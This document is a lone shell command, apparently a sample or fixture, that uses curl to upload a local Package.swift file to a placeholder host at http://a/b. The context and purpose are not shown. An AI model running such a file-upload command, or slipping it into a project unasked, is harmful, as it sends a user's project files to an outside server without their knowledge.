curl http://a/b --data-binary @Package.swift -H 'Content-Type: text/x'
